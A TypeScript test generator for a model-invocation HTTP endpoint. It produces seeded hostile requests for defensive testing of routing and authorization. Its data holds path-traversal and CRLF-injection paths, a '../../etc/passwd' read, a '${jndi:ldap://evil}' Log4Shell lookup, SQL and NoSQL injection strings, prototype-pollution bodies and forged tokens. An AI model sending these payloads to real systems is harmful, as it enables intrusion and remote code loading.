import { type Random, randomOf } from '../door/random-pick.ts';
import { badToken, goodToken } from './tokens.ts';

/** One request as a client sends it, after HTTP itself has been parsed. */
export interface HostileInput {
  readonly seed: string;
  readonly method: string;
  /** As the client wrote it, below the stage. */
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: Uint8Array;
  /** Whether its credentials are those of a client of the model `mine`. */
  readonly entitled: boolean;
  /** What its author had in mind, for people. */
  readonly what: string;
}

const names = [
  'mine',
  'theirs',
  '__proto__',
  'constructor',
  'toString',
  'MINE',
  'mine ',
  'mine%00',
  '..',
  'x'.repeat(300),
];
const methods = ['POST', 'POST', 'POST', 'POST', 'POST', 'GET', 'PUT', 'DELETE', 'TRACE', 'post', ''];

const paths: readonly ((name: string) => string)[] = [
  name => `/models/${name}/invocations`,
  name => `/models/${name}/invocations`,
  name => `/models/${name}/invocations`,
  name => `/models/mine/../${name}/invocations`,
  name => `/models/mine/invocations/../../${name}/invocations`,
  name => `//models/${name}/invocations`,
  name => `/models/${name}/invocations/`,
  name => `/models/${name}//invocations`,
  name => `/models/mine%2F..%2F${name}/invocations`,
  name => `/models/%2e%2e/models/${name}/invocations`,
  name => `/models/${name}%2Finvocations`,
  name => `/models/${name};mine/invocations`,
  name => `/models/${name}%0d%0aX-Evil:%201/invocations`,
  name => `/models/%ff%fe${name}/invocations`,
  name => `/models/%E0%A4%A/${name}`,
  () => '/',
  () => '/models',
  () => '*',
];

const hostileTexts = [
  'a\r\nx-evil: 1',
  'a\nb',
  '\u0000',
  '\u007f',
  'ü'.repeat(20),
  '🙂',
  ' '.repeat(50),
  '',
  'x'.repeat(1_025),
  'x'.repeat(20_000),
  '../../etc/passwd',
  '${jndi:ldap://evil}',
  '{"$ne":null}',
  "' OR 1=1 --",
  '-1',
  '9'.repeat(400),
  'NaN',
  '1e309',
];

const headerNames = [
  'content-type',
  'accept',
  'content-encoding',
  'content-length',
  'transfer-encoding',
  'host',
  'cookie',
  'origin',
  'x-deadline-ms',
  'idempotency-key',
  'x-amzn-sagemaker-custom-attributes',
  'x-amzn-sagemaker-target-model',
  'x-amzn-sagemaker-target-variant',
  'x-amzn-sagemaker-target-container-hostname',
  'x-amzn-sagemaker-inference-id',
  'x-amzn-sagemaker-enable-explanations',
  'x-amzn-sagemaker-inference-component',
  'x-amzn-sagemaker-session-id',
  'x-amzn-sagemaker-prefix-aware-id',
  'x-amzn-sagemaker-invented',
  'x-amz-date',
  'x-amz-security-token',
  'x-amz-target',
  'x-forwarded-for',
  '__proto__',
  'constructor',
];
const usual = new Map<string, readonly string[]>(
  Object.entries({
    'content-type': ['application/json', 'text/csv', 'application/octet-stream', 'application/json; charset=utf-8'],
    'x-deadline-ms': ['0', '1', '1000', '60000'],
    'idempotency-key': ['k-1', 'k-2', 'k-3'],
    'x-amzn-sagemaker-session-id': ['NEW_SESSION'],
    'x-amzn-sagemaker-custom-attributes': ['trace=1', 'deadline-ms=1', 'x'.repeat(1_024)],
    'x-amzn-sagemaker-inference-id': ['one'],
  }),
);

const bodies: readonly ((random: Random) => Uint8Array)[] = [
  () => Buffer.from('{"text":"hello"}'),
  () => Buffer.from('{"text":'),
  () => Buffer.alloc(0),
  random => Buffer.from(Array.from({ length: random.below(200) }, () => random.below(256))),
  () => Buffer.from('['.repeat(10_000)),
  () => Buffer.from('{"__proto__":{"admin":true}}'),
  random => Buffer.alloc(1_000 + random.below(60), 'x'),
  () => Buffer.alloc(2_000, 'x'),
  () => Buffer.alloc(200_000, 'x'),
];

type Credentials = (nowS: number, random: Random) => Pick<HostileInput, 'headers' | 'entitled' | 'what'>;

const entitling: readonly Credentials[] = [
  () => ({ headers: { 'x-api-key': 'key-of-ada' }, entitled: true, what: 'a key' }),
  now => ({ headers: { authorization: `Bearer ${goodToken(now)}` }, entitled: true, what: 'a token' }),
];
const credentials: readonly ((nowS: number, random: Random) => Pick<HostileInput, 'headers' | 'entitled' | 'what'>)[] =
  [
    () => ({ headers: { 'x-api-key': 'key-of-ada' }, entitled: true, what: 'a key' }),
    () => ({ headers: { 'x-api-key': 'key-of-ada' }, entitled: true, what: 'a key' }),
    now => ({ headers: { authorization: `Bearer ${goodToken(now)}` }, entitled: true, what: 'a token' }),
    () => ({ headers: { 'x-api-key': 'key-of-tokens' }, entitled: false, what: 'the key that counts tokens' }),
    () => ({ headers: { 'x-api-key': 'guess' }, entitled: false, what: 'an invented key' }),
    () => ({ headers: {}, entitled: false, what: 'no credentials' }),
    (now, random) => badHeaders(now, random),
    (now, random) => badHeaders(now, random),
    (now, random) => ({
      ...badHeaders(now, random),
      headers: { authorization: `Basic ${badToken(now, random).token}` },
    }),
  ];

function badHeaders(nowS: number, random: Random) {
  const { what, token } = badToken(nowS, random);
  return { headers: { authorization: `Bearer ${token}` }, entitled: false, what: `a token: ${what}` };
}

/** The request that a seed stands for; `nowS` is when it is sent, in seconds since the epoch. */
export function hostileInput(seed: string, nowS: number): HostileInput {
  const random = randomOf(seed);
  // Half of them go in by the front door, and are hostile inside.
  const inside = random.below(2) === 0;
  const name = random.below(4) > 0 ? 'mine' : random.pick(inside ? ['theirs'] : names);
  const { headers: shown, entitled, what } = (inside ? random.pick(entitling) : random.pick(credentials))(nowS, random);
  const headers: Record<string, string> = { 'content-type': 'application/json' };
  for (let n = random.below(4); n > 0; n--) {
    const header = random.pick(headerNames);
    const value = random.pick(random.below(2) === 0 ? hostileTexts : (usual.get(header) ?? hostileTexts));
    Object.defineProperty(headers, header, { value, enumerable: true, configurable: true, writable: true });
  }
  return {
    seed,
    method: inside ? 'POST' : random.pick(methods),
    path: inside ? `/models/${name}/invocations` : random.pick(paths)(name),
    headers: { ...headers, ...shown },
    body: random.pick(bodies)(random),
    entitled,
    what,
  };
}
